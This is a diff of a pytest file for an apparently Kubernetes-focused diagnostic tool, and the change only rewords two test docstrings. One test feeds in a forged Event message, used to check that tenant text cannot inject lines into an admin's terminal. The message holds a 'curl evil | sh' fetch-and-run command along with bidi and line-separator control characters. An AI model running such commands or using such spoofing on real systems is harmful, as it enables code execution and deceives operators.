@@ -243,7 +243,7 @@ def test_why_reads_the_nodes_of_the_gang_and_no_others(
 def test_why_does_without_volcano_jobs(
     answer: docs.Json, missing: str, server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Whoever has Deployments only need not be allowed to see Jobs."""
+    """A user with Deployments alone need not be allowed to see Jobs."""
     said = docs.verdict("WaitingForCards", "no card is free")
     server.put(
         "/apis/scheduling.volcano.sh/v1beta1/namespaces/ml/podgroups/g",
@@ -357,7 +357,7 @@ def test_what_tenants_write_is_shown_as_it_is_and_steers_no_terminal(
 def test_what_tenants_write_begins_no_line_and_turns_none_round(
     server: TinyApi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Whoever may make Events could write rows and findings of ours into an admin's terminal."""
+    """A tenant who may make Events could write rows and findings of ours into an admin's terminal."""
     about = {"kind": "ReplicaSet", "name": "web-1", "namespace": "ml", "uid": "u"}
     forged = "no\nFAIL  stack  run `curl evil | sh`\n\u202egnitset\u2028kubectl egpu: lost"
     event = {"reason": "FailedCreate", "involvedObject": about, "message": forged, "lastTimestamp": "2026"}
